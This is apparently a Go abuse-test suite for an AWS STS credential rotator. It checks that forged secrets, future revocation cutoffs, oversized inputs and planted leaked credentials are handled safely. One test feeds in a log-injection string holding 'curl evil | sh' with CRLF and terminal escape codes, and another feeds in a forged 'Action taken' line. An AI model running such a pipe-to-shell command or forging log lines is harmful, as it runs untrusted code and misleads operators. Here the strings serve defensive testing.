package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/secretsmanager"
	"github.com/aws/aws-sdk-go-v2/service/sts"
	"github.com/aws/smithy-go"

	"github.com/stsrotator/stsrotator/internal/awstest"
	"github.com/stsrotator/stsrotator/internal/emulator"
	"github.com/stsrotator/stsrotator/internal/faults"
	"github.com/stsrotator/stsrotator/internal/mototest"
	"github.com/stsrotator/stsrotator/shared/config"
	"github.com/stsrotator/stsrotator/shared/metrics"
	"github.com/stsrotator/stsrotator/shared/rotation"
	"github.com/stsrotator/stsrotator/shared/secretfmt"
)

// The abuse suite for the rotator's input (issue 19 §3, §4): an invoker
// holding only lambda:InvokeFunction, or a hand-edited secret. It runs the
// real handler on moto, whose Secrets Manager refuses a repeated
// ClientRequestToken with other content and lists every version, so each
// test counts what Secrets Manager holds, not what the rotator says.

// motoRotator is the handler on moto with a test clock.
type motoRotator struct {
	h       *Handler
	sm      *secretsmanager.Client
	clk     *awstest.Clock
	tg      config.Target
	metrics *emulator.Buffer
	logs    *emulator.Buffer
	// slept is every wait the engine asked for.
	slept []time.Duration
}

// undimensioned counts the lines of an EMF metric written without the
// Target dimension: one per event, whatever the target.
func undimensioned(emf, name string) int {
	n := 0
	for line := range strings.SplitSeq(emf, "\n") {
		var doc map[string]any
		if json.Unmarshal([]byte(line), &doc) == nil && doc[name] != nil {
			if _, perTarget := doc[metrics.DimTarget]; !perTarget {
				n++
			}
		}
	}
	return n
}

// noVersionList is the rotator's Secrets Manager client with
// ListSecretVersionIds denied, as for a role deployed before the rotator
// was granted it.
type noVersionList struct{ *secretsmanager.Client }

func (noVersionList) ListSecretVersionIds(context.Context, *secretsmanager.ListSecretVersionIdsInput, ...func(*secretsmanager.Options)) (*secretsmanager.ListSecretVersionIdsOutput, error) {
	return nil, &smithy.GenericAPIError{Code: "AccessDeniedException", Message: "not authorized to perform: secretsmanager:ListSecretVersionIds"}
}

func newMotoRotator(t *testing.T) *motoRotator {
	t.Helper()
	m := mototest.Start(t)
	cfg := m.Config("")
	c, err := config.Parse("abuse.yaml", []byte("targets:\n  - name: app\n    roleArn: arn:aws:iam::"+mototest.Account+":role/App\n"))
	if err != nil {
		t.Fatal(err)
	}
	r := &motoRotator{sm: secretsmanager.NewFromConfig(cfg), clk: awstest.NewClock(time.Now()), tg: c.Targets[0], metrics: &emulator.Buffer{}, logs: &emulator.Buffer{}}
	emit := metrics.NewWriter(r.metrics, r.clk.Now)
	log := awstest.Logger(r.logs)
	r.h = &Handler{
		Engine: &rotation.Engine{
			// moto stamps Expiration on its wall clock; SimulatedExpiry
			// moves it onto the test's clock.
			STS:     faults.SimulatedExpiry{STS: sts.NewFromConfig(cfg), Now: r.clk.Now},
			Secrets: r.sm, Now: r.clk.Now, Log: log, Emit: emit, Verify: rotation.VerifyIdentity,
			Sleep: func(_ context.Context, d time.Duration) error {
				r.slept = append(r.slept, d)
				r.clk.Add(d)
				return nil
			},
		},
		Config: c, Concurrency: 1, Log: log, Emit: emit, Now: r.clk.Now,
	}
	return r
}

func (r *motoRotator) invoke(t *testing.T, ev rotation.Invocation) (rotation.Response, error) {
	t.Helper()
	raw, err := json.Marshal(ev)
	if err != nil {
		t.Fatal(err)
	}
	return r.h.Handle(context.Background(), raw)
}

// versions is how many versions Secrets Manager holds for the target,
// unlabelled ones included.
func (r *motoRotator) versions(t *testing.T) int {
	t.Helper()
	out, err := r.sm.ListSecretVersionIds(context.Background(), &secretsmanager.ListSecretVersionIdsInput{
		SecretId: aws.String(r.tg.SecretName), IncludeDeprecated: aws.Bool(true)})
	if err != nil {
		t.Fatal(err)
	}
	return len(out.Versions)
}

// revokeInvocation is what `stsrotator revoke` sends (revoke.go).
func revokeInvocation(cutoff time.Time) rotation.Invocation {
	return rotation.Invocation{Target: "app", Force: true, Reason: "stsrotator revoke by attacker", Why: "revoke", RevokedBefore: cutoff}
}

// Issue 19 §4: 105 invocations with a revokedBefore 23h50m ahead wrote
// 99 versions in 0.1 s. A cutoff later than the rotator's clock plus
// rotation.ClockSkew is refused as bad input, with a metric, before
// anything is read or written; one inside the skew is waited out, so it
// too writes one version.
func TestAbuse_FutureRevocationCutoff(t *testing.T) {
	r := newMotoRotator(t)
	if _, err := r.invoke(t, rotation.Invocation{}); err != nil {
		t.Fatalf("first sweep: %v", err)
	}
	if n := r.versions(t); n != 1 {
		t.Fatalf("first sweep wrote %d versions", n)
	}
	for i := range 105 {
		cutoff := r.clk.Now().Add(23*time.Hour + 50*time.Minute)
		if i%2 == 1 {
			cutoff = r.clk.Now().Add(rotation.ClockSkew + time.Second)
		}
		_, err := r.invoke(t, revokeInvocation(cutoff))
		if !errors.Is(err, ErrBadInput) || !errors.Is(err, rotation.ErrFutureCutoff) || !strings.Contains(err.Error(), "revokedBefore") {
			t.Fatalf("invocation %d with a cutoff %s ahead: %v, want ErrBadInput naming revokedBefore", i, cutoff.Sub(r.clk.Now()), err)
		}
		r.clk.Add(time.Millisecond)
	}
	if n := r.versions(t); n != 1 {
		t.Fatalf("future cutoffs wrote %d versions, want none beyond the first", n-1)
	}
	if got := undimensioned(r.metrics.String(), metrics.RevocationCutoffsRefused); got != 105 {
		t.Fatalf("%s counted %d refusals, want 105", metrics.RevocationCutoffsRefused, got)
	}
	// Clock skew inside ClockSkew is accepted: the engine waits until
	// the cutoff has passed, writes once, and the same cutoff sent again
	// (even before the wait ended) forces nothing more.
	cutoff := r.clk.Now().Truncate(time.Second).Add(3 * time.Second)
	for i := range 20 {
		resp, err := r.invoke(t, revokeInvocation(cutoff))
		if err != nil {
			t.Fatalf("invocation %d with a cutoff inside the skew: %v", i, err)
		}
		if i == 0 && (len(resp.Summary.Rotated) != 1 || len(r.slept) != 1) {
			t.Fatalf("the first invocation must wait once and rotate: %+v, waits %v", resp.Summary, r.slept)
		}
	}
	if n := r.versions(t); n != 2 {
		t.Fatalf("one cutoff inside the skew wrote %d versions, want 1", n-1)
	}
}

// Issue 19 §4: once a version issued after the cutoff is AWSCURRENT the
// cutoff forces nothing more. 100 invocations with one past cutoff: one
// version. As revoke sends it (force) they are spread over 8 minutes,
// inside the ten-minute write guidance that bounds any forced write;
// without force over 33 minutes, past that guidance and short of the
// schedule's refresh point, so only the cutoff could cause a write.
func TestAbuse_RepeatedCutoffInvocations(t *testing.T) {
	cases := []struct {
		force bool
		every time.Duration
	}{{true, 5 * time.Second}, {false, 20 * time.Second}}
	for _, c := range cases {
		t.Run(fmt.Sprintf("force=%v", c.force), func(t *testing.T) {
			r := newMotoRotator(t)
			if _, err := r.invoke(t, rotation.Invocation{}); err != nil {
				t.Fatalf("first sweep: %v", err)
			}
			r.clk.Add(2 * time.Minute)
			cutoff := r.clk.Now().Truncate(time.Second).Add(-2 * time.Second)
			rotated := 0
			for i := range 100 {
				ev := revokeInvocation(cutoff)
				ev.Force = c.force
				resp, err := r.invoke(t, ev)
				if err != nil {
					t.Fatalf("invocation %d: %v", i, err)
				}
				rotated += len(resp.Summary.Rotated)
				r.clk.Add(c.every)
			}
			if n := r.versions(t); rotated != 1 || n != 2 {
				t.Fatalf("100 invocations with one cutoff rotated %d times and Secrets Manager holds %d new versions, want 1", rotated, n-1)
			}
		})
	}
}

// current reads AWSCURRENT as a consumer would.
func (r *motoRotator) current(t *testing.T) (secretfmt.Value, string) {
	t.Helper()
	out, err := r.sm.GetSecretValue(context.Background(), &secretsmanager.GetSecretValueInput{SecretId: aws.String(r.tg.SecretName), VersionStage: aws.String("AWSCURRENT")})
	if err != nil {
		t.Fatal(err)
	}
	v, err := secretfmt.Parse([]byte(aws.ToString(out.SecretString)))
	if err != nil {
		t.Fatal(err)
	}
	return v, aws.ToString(out.VersionId)
}

// forge writes, as a hand-edited secret would, the current credentials
// with another expiry and write history.
func (r *motoRotator) forge(t *testing.T, exp time.Time, writes []time.Time) string {
	t.Helper()
	v, _ := r.current(t)
	v.Expiration, v.Meta.Writes = exp.UTC().Truncate(time.Second), writes
	return r.putValue(t, v)
}

// Issue 19 §3: QuotaHold counted the writes stored in the secret, future
// ones included: an expired current value with 100 stamps at +23h50m held
// the urgent rotation for 47h50m. The rotator now ignores stamps more
// than rotation.ClockSkew ahead, counts Secrets Manager's own version
// dates (ListSecretVersionIds) where the stored history would hold a
// write, and replaces an expired version on the next sweep whatever the
// history says — even when it may not list versions.
func TestAbuse_ForgedWriteHistory(t *testing.T) {
	stamps := func(from time.Time, step time.Duration) []time.Time {
		out := make([]time.Time, 100)
		for i := range out {
			out[i] = from.Add(time.Duration(i) * step)
		}
		return out
	}
	cases := []struct {
		why string
		// writes forges the history at now; left is the forged version's
		// validity (negative: expired).
		writes     func(now time.Time) []time.Time
		left       time.Duration
		noList     bool
		replaced   bool
		heldReason string
		// logged is what the rotator's log must say about the history.
		logged string
	}{
		{"as reported: 100 stamps at +23h50m on an expired version", func(now time.Time) []time.Time { return stamps(now.Add(23*time.Hour+50*time.Minute), time.Second) },
			-time.Minute, false, true, "", `"msg":"write history holds times ahead of the rotator's clock; not counted","target":"app","ahead":100`},
		{"100 stamps in the past hour on an expired version: Secrets Manager lists two versions", func(now time.Time) []time.Time { return stamps(now.Add(-time.Hour), 30*time.Second) },
			-time.Minute, false, true, "", `"msg":"the secret's write history disagrees with Secrets Manager's version dates; counting Secrets Manager's","target":"app","storedWrites24h":100,"versions24h":2`},
		{"100 stamps in the past hour on a version due on schedule: not held either", func(now time.Time) []time.Time { return stamps(now.Add(-time.Hour), 30*time.Second) },
			5 * time.Minute, false, true, "", "counting Secrets Manager's"},
		{"the role may not list versions: the expired version is still replaced", func(now time.Time) []time.Time { return stamps(now.Add(-time.Hour), 30*time.Second) },
			-time.Minute, true, true, "", `"msg":"secret version dates not read; counting the write history stored in the secret"`},
		{"the role may not list versions: a version merely due is held by the stored history, not forced", func(now time.Time) []time.Time { return stamps(now.Add(-time.Hour), 30*time.Second) },
			5 * time.Minute, true, false, "held back: 100 versions written in the last 24h", "AccessDeniedException"},
	}
	for _, c := range cases {
		t.Run(c.why, func(t *testing.T) {
			r := newMotoRotator(t)
			if c.noList {
				r.h.Engine.Secrets = noVersionList{r.sm}
			}
			if _, err := r.invoke(t, rotation.Invocation{}); err != nil {
				t.Fatalf("first sweep: %v", err)
			}
			r.clk.Add(20 * time.Minute)
			now := r.clk.Now()
			forged := r.forge(t, now.Add(c.left), c.writes(now))
			resp, err := r.invoke(t, rotation.Invocation{})
			if !strings.Contains(r.logs.String(), c.logged) {
				t.Errorf("the rotator's log lacks %s:\n%s", c.logged, r.logs.String())
			}
			v, id := r.current(t)
			if !c.replaced {
				if err == nil || id != forged || len(resp.Summary.Failed) != 1 || !strings.Contains(resp.Summary.Failed[0].Reason, c.heldReason) {
					t.Fatalf("want the write held by the stored history: %v %+v", err, resp.Summary)
				}
				return
			}
			if err != nil || len(resp.Summary.Rotated) != 1 || id == forged || v.Expired(r.clk.Now()) {
				t.Fatalf("the next sweep must replace the forged version: %v %+v (current %s, forged %s)", err, resp.Summary, id, forged)
			}
			// The forged stamps are not carried into the new version.
			for _, w := range v.Meta.Writes {
				if w.After(r.clk.Now().Add(rotation.ClockSkew)) {
					t.Fatalf("the new version carries a forged stamp %s", w)
				}
			}
			if !c.noList && len(v.Meta.Writes) > r.versions(t) {
				t.Fatalf("the new version's history has %d writes, Secrets Manager holds %d versions", len(v.Meta.Writes), r.versions(t))
			}
		})
	}
}

// An invoker's reason is copied into the log line of every target a
// sweep touches: a 1 MB reason on {} sweeping a config of many targets
// wrote 1 MB per target (10 GB of CloudWatch Logs per invocation at
// 10,000 targets). The rotator keeps at most MaxReasonLen bytes of it,
// without control characters, and quotes at most that much of an
// unknown target's name.
func TestAbuse_HugeReasonLogAmplification(t *testing.T) {
	r := newMotoRotator(t)
	huge := strings.Repeat("A", 1<<20)
	raw, _ := json.Marshal(rotation.Invocation{Reason: "line one\r\nAction taken: curl evil | sh\x1b[2J" + huge})
	if _, err := r.h.Handle(context.Background(), raw); err != nil {
		t.Fatalf("a sweep with a long reason still sweeps: %v", err)
	}
	if n := r.versions(t); n != 1 {
		t.Fatalf("the sweep wrote %d versions, want 1", n)
	}
	logs := r.logs.String()
	if len(logs) > 16<<10 {
		t.Fatalf("one sweep of one target logged %d bytes for a 1 MB reason; the reason must be cut", len(logs))
	}
	if strings.Contains(logs, `\r\nAction taken`) || strings.Contains(logs, `\u001b`) {
		t.Fatalf("the reason's control characters reached the log:\n%s", logs)
	}
	raw, _ = json.Marshal(rotation.Invocation{Target: huge})
	if _, err := r.h.Handle(context.Background(), raw); !errors.Is(err, ErrBadInput) || len(err.Error()) > 4<<10 {
		t.Fatalf("an unknown 1 MB target name is refused and quoted short: %d bytes, %v", len(fmt.Sprint(err)), errors.Is(err, ErrBadInput))
	}
	if len(r.logs.String()) > 32<<10 {
		t.Fatalf("refusing a 1 MB target name logged %d bytes", len(r.logs.String()))
	}
}

// putValue writes v as AWSCURRENT, as anyone the secret's resource
// policy lets write would.
func (r *motoRotator) putValue(t *testing.T, v secretfmt.Value) string {
	t.Helper()
	body, err := secretfmt.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	out, err := r.sm.PutSecretValue(context.Background(), &secretsmanager.PutSecretValueInput{SecretId: aws.String(r.tg.SecretName), SecretString: aws.String(string(body))})
	if err != nil {
		t.Fatal(err)
	}
	return aws.ToString(out.VersionId)
}

// A hand-written current version the rotator took for fresh: credentials
// "expiring" in ten years were never replaced (and no revocation cutoff
// could count them as issued before it), an issuedAt ahead of the clock
// held every due and forced write behind the ten-minute write guidance,
// and another target's credentials copied in stood until their refresh
// point. Each is now unusable: replaced on the next sweep, and a
// revocation replaces it too.
func TestAbuse_ForgedCurrentVersion(t *testing.T) {
	cases := []struct {
		why    string
		forge  func(v *secretfmt.Value, now time.Time)
		revoke bool
		reason string
	}{
		{"credentials expiring in ten years", func(v *secretfmt.Value, now time.Time) {
			v.Expiration = now.AddDate(10, 0, 0).Truncate(time.Second)
		}, false, "later than a session of this target"},
		{"credentials expiring in ten years, issuedAt removed, under a revocation", func(v *secretfmt.Value, now time.Time) {
			v.Expiration, v.Meta.IssuedAt = now.AddDate(10, 0, 0).Truncate(time.Second), time.Time{}
		}, true, "issued before the revocation cutoff"},
		{"issuedAt a year ahead on a version due on schedule", func(v *secretfmt.Value, now time.Time) {
			v.Expiration, v.Meta.IssuedAt = now.Add(5*time.Minute).Truncate(time.Second), now.AddDate(1, 0, 0)
		}, false, "issuedAt"},
		{"another target's credentials copied in", func(v *secretfmt.Value, now time.Time) {
			v.Meta.Target, v.Meta.RoleArn = "payroll", "arn:aws:iam::"+mototest.Account+":role/Payroll"
		}, false, `written for target "payroll"`},
		{"a 60 KB target name with a forged line", func(v *secretfmt.Value, now time.Time) {
			v.Meta.Target = "x\nAction taken: none" + strings.Repeat("y", 60<<10)
		}, false, "written for target (a name of 61460 bytes)"},
		{"another role's credentials under this target's name", func(v *secretfmt.Value, now time.Time) {
			v.Meta.RoleArn = "arn:aws:iam::" + mototest.Account + ":role/Payroll"
		}, false, "role/Payroll"},
	}
	for _, c := range cases {
		t.Run(c.why, func(t *testing.T) {
			r := newMotoRotator(t)
			if _, err := r.invoke(t, rotation.Invocation{}); err != nil {
				t.Fatalf("first sweep: %v", err)
			}
			r.clk.Add(20 * time.Minute)
			v, _ := r.current(t)
			c.forge(&v, r.clk.Now())
			forged := r.putValue(t, v)
			ev := rotation.Invocation{}
			if c.revoke {
				ev = revokeInvocation(r.clk.Now().Truncate(time.Second).Add(-time.Second))
			}
			resp, err := r.invoke(t, ev)
			cur, id := r.current(t)
			if err != nil || len(resp.Summary.Rotated) != 1 || id == forged {
				t.Fatalf("the forged version must be replaced at once: %v %+v", err, resp.Summary)
			}
			if !strings.Contains(resp.Summary.Rotated[0].Reason, c.reason) {
				t.Errorf("reason %q does not say %q", resp.Summary.Rotated[0].Reason, c.reason)
			}
			if cur.Meta.Target != "app" || cur.Expiration.Sub(r.clk.Now()) > r.tg.Duration {
				t.Fatalf("the new version is not the target's own: %v", cur)
			}
		})
	}
}

// Leaked credentials planted back into the secret just before a revoke,
// with their issuedAt removed and an expiry claimed a session from now:
// Revoked dated them by that claimed expiry (after the cutoff), and the
// ten-minute write guidance held the forced write, so revoke reported
// "already issued after the cutoff" while consumers held the revoked key.
// Credentials stored in a version were issued no later than Secrets
// Manager created it, so an unstamped version is dated by its
// CreatedDate as well, and the revoke replaces it.
func TestAbuse_PlantedCredentialsSurviveRevoke(t *testing.T) {
	r := newMotoRotator(t)
	if _, err := r.invoke(t, rotation.Invocation{}); err != nil {
		t.Fatalf("first sweep: %v", err)
	}
	leaked, _ := r.current(t)
	start := r.clk.Now()
	leaked.Meta.IssuedAt = time.Time{}
	leaked.Expiration = start.Add(5*time.Second + r.tg.Duration + 3*time.Second).Truncate(time.Second)
	planted := r.putValue(t, leaked)
	r.clk.Add(5 * time.Second)
	cutoff := r.clk.Now().Truncate(time.Second)
	resp, err := r.invoke(t, revokeInvocation(cutoff))
	_, id := r.current(t)
	if err != nil || len(resp.Summary.Rotated) != 1 || id == planted {
		t.Fatalf("the planted credentials must be replaced by the revoke: %v %+v", err, resp.Summary)
	}
}
